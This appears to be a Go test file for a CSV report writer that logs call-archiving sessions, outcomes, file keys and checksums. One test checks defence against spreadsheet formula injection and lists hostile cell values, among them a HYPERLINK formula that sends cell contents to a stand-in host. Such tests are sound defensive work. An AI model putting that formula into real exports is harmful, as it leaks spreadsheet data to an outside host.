package batchreport_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/callvault/callvault/internal/batchreport"
	"github.com/callvault/callvault/workflows"
)

// someRows are rows of each kind.
func someRows() []batchreport.Row {
	at := time.Date(2024, 3, 5, 14, 0, 0, 0, time.FixedZone("", 3600))
	return []batchreport.Row{
		{
			Session: sessionOf(0), CallTime: callTime, Outcome: workflows.OutcomeArchived, StatusChecks: 3, StartedAt: at, FinishedAt: finished,
			Files: []batchreport.File{{Key: "k/b.wav", Bytes: 7, SHA256: "bb"}, {Key: "k/a.wav", Bytes: 44, SHA256: "aa"}},
		},
		{Session: sessionOf(1), CallTime: callTime, Outcome: workflows.OutcomeFailed, Reason: "he said \"no\",\nand hung up; <b>", Files: []batchreport.File{}, StatusChecks: 1},
		{Session: sessionOf(2), CallTime: callTime, Outcome: "of_a_later_release", Files: []batchreport.File{}},
		{Session: sessionOf(3), CallTime: callTime, Reason: batchreport.NotStarted, Files: []batchreport.File{}},
		{Session: sessionOf(4), Reason: "zurück", Files: []batchreport.File{}},
	}
}

// csvOf returns the records of a report.
func csvOf(t *testing.T, rows ...batchreport.Row) [][]string {
	t.Helper()
	var out bytes.Buffer
	report, err := batchreport.NewCSV(&out)
	require.NoError(t, err)
	for _, row := range rows {
		require.NoError(t, report.Write(row))
	}
	require.NoError(t, report.Close())
	records, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err, "each record has as many fields as the header")
	return records
}

func TestReportIsReadByACSVReader(t *testing.T) {
	rows := someRows()
	require.Equal(t, [][]string{
		{"botId", "sessionId", "callTime", "outcome", "reason", "files", "key", "bytes", "sha256", "statusChecks", "startedAt", "finishedAt"},
		{botID, sessionOf(0).SessionID, "2024-03-05T12:42:34Z", "archived", "", "2", "k/b.wav;k/a.wav", "51", "bb;aa", "3", "2024-03-05T13:00:00Z", "2024-03-05T13:01:00Z"},
		{botID, sessionOf(1).SessionID, "2024-03-05T12:42:34Z", "failed", "he said \"no\",\nand hung up; <b>", "0", "", "0", "", "1", "", ""},
		{botID, sessionOf(2).SessionID, "2024-03-05T12:42:34Z", "of_a_later_release", "", "0", "", "0", "", "0", "", ""},
		{botID, sessionOf(3).SessionID, "2024-03-05T12:42:34Z", "", "not started", "0", "", "0", "", "0", "", ""},
		{botID, sessionOf(4).SessionID, "", "", "zurück", "0", "", "0", "", "0", "", ""},
		{"total", "5", "", "archived 1, failed 1, other 1, no outcome 2", "", "2", "", "51", "", "4", "", ""},
	}, csvOf(t, rows...))
}

func TestReportOfNothingCountsNothing(t *testing.T) {
	records := csvOf(t)
	require.Len(t, records, 2)
	require.Equal(t, []string{"total", "0", "", "", "", "0", "", "0", "", "0", "", ""}, records[1])
}

// A vendor's text that begins like this would be computed by the spreadsheet that opens it.
func TestNoCellOfAReportIsAFormula(t *testing.T) {
	for _, text := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠SUM",
	} {
		record := csvOf(t, batchreport.Row{
			Session: sessionOf(0), Outcome: workflows.Outcome(text), Reason: text, Files: []batchreport.File{{Key: text}},
		})[1]
		for _, cell := range record {
			require.False(t, strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r\n"), cell)
			require.False(t, strings.HasPrefix(cell, text), cell)
		}
		require.Equal(t, "'"+strings.TrimPrefix(text, "\r"), strings.Replace(record[4], "\r", "", 1), "the text stays readable")
	}
	for _, text := range []string{"", "a=b", "'quoted", "5 files", "é=1"} {
		require.Equal(t, text, csvOf(t, batchreport.Row{Session: sessionOf(0), Reason: text})[1][4])
	}
}

// failing fails once it has taken so many bytes.
type failing struct{ left int }

var errDisk = errors.New("the disk is full")

func (f *failing) Write(p []byte) (int, error) {
	if f.left -= len(p); f.left < 0 {
		return 0, errDisk
	}
	return len(p), nil
}

func TestCSVThatCannotBeWrittenFails(t *testing.T) {
	report, err := batchreport.NewCSV(&failing{})
	require.NoError(t, err, "a few lines are kept before they are written")
	for range 1000 {
		if err = report.Write(someRows()[0]); err != nil {
			break
		}
	}
	require.ErrorIs(t, err, errDisk)
	require.ErrorIs(t, report.Close(), errDisk)

	short, err := batchreport.NewCSV(&failing{})
	require.NoError(t, err)
	require.ErrorIs(t, short.Close(), errDisk, "the last lines count too")
}

func TestOutcomesAreCountedInTheirOrder(t *testing.T) {
	require.Empty(t, batchreport.OutcomesText(workflows.ReportTotal{}))
	require.Equal(t, "archived 4711, unavailable 1, gave_up 3, damaged 4, other 5, no outcome 6", batchreport.OutcomesText(workflows.ReportTotal{
		Sessions: 4730, NoOutcome: 6,
		Outcomes: map[workflows.Outcome]int{workflows.OutcomeDamaged: 4, workflows.OutcomeGaveUp: 3, workflows.OutcomeArchived: 4711, workflows.OutcomeUnavailable: 1, "x": 2, "y": 3},
	}))
}
